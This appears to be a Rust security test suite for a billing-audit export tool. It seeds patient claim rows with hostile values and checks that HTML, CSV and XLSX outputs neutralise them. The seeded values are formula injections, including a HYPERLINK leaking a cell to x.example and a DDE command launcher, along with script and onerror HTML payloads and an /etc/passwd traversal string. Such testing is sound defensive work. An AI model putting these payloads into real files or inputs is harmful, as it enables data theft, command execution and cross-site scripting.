//! An export that tries to do harm in what is made of it.

use crate::deliverables::page::tables;
use crate::support::{Audit, audit, recount_in};
use calamine::{Reader, Xlsx, open_workbook};
use std::path::{Path, PathBuf};

/// A practice of two hundred patients whose ids, clinics, payers and claims are formulas, tags and paths.
pub fn hostile_rows() -> String {
    let mut rows = String::from(
        "patient_id,date_of_service,code,minutes,units,payer,therapist_id,clinic,claim_id,line_id,charge\n",
    );
    let evil = [
        "=HYPERLINK(\"http://x.example/?\"&A1)",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "<script>alert(1)</script>",
        "\" onmouseover=alert(1) x=\"",
        "../../../etc/passwd",
        "</title></style><img src=x onerror=alert(1)>",
        "C:\\con\\aux",
        "\tTAB",
    ];
    let quoted = |text: &str| format!("\"{}\"", text.replace('"', "\"\""));
    for n in 0..200 {
        let text = |k: usize| quoted(evil[(n + k) % evil.len()]);
        rows.push_str(&format!(
            "{},2026-03-{:02},97110,10,2,{},{},{},{},{},10.00\n",
            quoted(&format!("{}{n}", evil[n % evil.len()])),
            n % 28 + 1,
            text(1),
            text(2),
            text(3),
            text(4),
            quoted(&format!("{n}{}", evil[(n + 5) % evil.len()])),
        ));
    }
    rows
}

fn hostile() -> Audit {
    audit(&[("v.csv", &hostile_rows())], &["--html-audience", "workpaper", "--letters"])
}

fn below(folder: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            found.extend(below(&path));
        }
        found.push(path);
    }
    found
}

#[test]
fn no_field_becomes_a_tag() {
    let audit = hostile();
    assert_eq!(audit.run.code, 0, "{}", audit.run.stderr);
    let pages: Vec<PathBuf> = below(&audit.file(""))
        .into_iter()
        .filter(|path| path.extension().is_some_and(|extension| extension == "html"))
        .collect();
    assert!(pages.len() > 5);
    for page in pages {
        let html = std::fs::read_to_string(&page).unwrap();
        assert_eq!(html.matches("<script").count(), 1, "{}", page.display());
        assert_eq!(html.matches("</style>").count(), 1, "{}", page.display());
        assert!(!html.contains("<img") && !html.contains("<script>alert"), "{}", page.display());
        // Quoted or not, no attribute begins with "on".
        for tag in html.split('<').skip(1).filter_map(|part| part.split_once('>')).map(|(tag, _)| tag) {
            let tag = tag.to_lowercase();
            assert!(!tag.split('"').step_by(2).any(|outside| outside.contains(" on")), "{tag}");
        }
        assert!(html.contains("default-src 'none'"));
    }
    let html = std::fs::read_to_string(audit.file("report.html")).unwrap();
    let shown =
        tables(&html).into_iter().find(|table| table.headings.first().is_some_and(|head| head == "therapist id"));
    let names: Vec<String> = shown.unwrap().rows.into_iter().map(|row| row[0].clone()).collect();
    assert!(names.iter().any(|name| name == "<script>alert(1)</script>"), "text stays what it is: {names:?}");
}

#[test]
fn no_field_becomes_a_formula() {
    let audit = hostile();
    for file in below(&audit.file("")).into_iter().filter(|path| path.extension().is_some_and(|ending| ending == "csv"))
    {
        let name = file.file_name().unwrap().to_str().unwrap().to_owned();
        let mut reader = csv::ReaderBuilder::new().flexible(true).from_path(&file).unwrap();
        let headers = reader.headers().unwrap().clone();
        for record in reader.records() {
            for (header, cell) in headers.iter().zip(&record.unwrap()) {
                // Our own numbers may be below zero.
                let number = cell.parse::<f64>().is_ok();
                assert!(number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{name} {header}");
            }
        }
    }
    let mut book: Xlsx<_> = open_workbook(audit.file("workpaper.xlsx")).unwrap();
    let mut formulas = 0;
    for sheet in book.sheet_names() {
        let range = book.worksheet_formula(&sheet).unwrap();
        for formula in range.rows().flatten().filter(|formula| !formula.is_empty()) {
            let known =
                ["SUM(", "SUBTOTAL(", "ROUND("].iter().any(|own| formula.trim_start_matches('=').starts_with(own));
            assert!(known, "{sheet}: a formula that is not ours");
            formulas += 1;
        }
    }
    assert!(formulas > 10);
}

/// Our own reader takes the apostrophe off again: a table that is audited anew has the names that it had.
#[test]
fn the_apostrophe_is_ours_to_take_off() {
    let audit = hostile();
    let lines = audit.file("lines.csv");
    let again =
        recount_in(audit.folder.path(), &["audit", lines.to_str().unwrap(), "--out", "again", "--tables", "csv"]);
    assert_eq!(again.code, 0, "{}", again.stderr);
    let read = |path: PathBuf| {
        let mut reader = csv::Reader::from_path(path).unwrap();
        let place = reader.headers().unwrap().iter().position(|name| name == "patient_id").unwrap();
        let mut ids: Vec<String> = reader.records().map(|row| row.unwrap()[place].to_owned()).collect();
        ids.sort();
        ids
    };
    assert_eq!(read(lines.clone()), read(audit.folder.path().join("again/lines.csv")));
}

#[test]
fn names_never_become_paths() {
    let audit = hostile();
    for path in below(&audit.file("")) {
        let name = path.strip_prefix(audit.file("")).unwrap().to_str().unwrap().to_owned();
        assert!(
            name.chars().all(|c| c.is_ascii_alphanumeric() || "./_-".contains(c)) && !name.contains(".."),
            "{name}"
        );
    }
    let outside: Vec<_> =
        std::fs::read_dir(audit.folder.path()).unwrap().map(|entry| entry.unwrap().file_name()).collect();
    assert_eq!(outside.len(), 2, "{outside:?}");
}

#[cfg(unix)]
#[test]
fn outputs_are_for_their_user_alone() {
    use std::os::unix::fs::PermissionsExt;
    let audit = hostile();
    let folder = audit.file("");
    for path in below(&folder).into_iter().chain([folder]) {
        let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, if path.is_dir() { 0o700 } else { 0o600 }, "{}", path.display());
    }
}
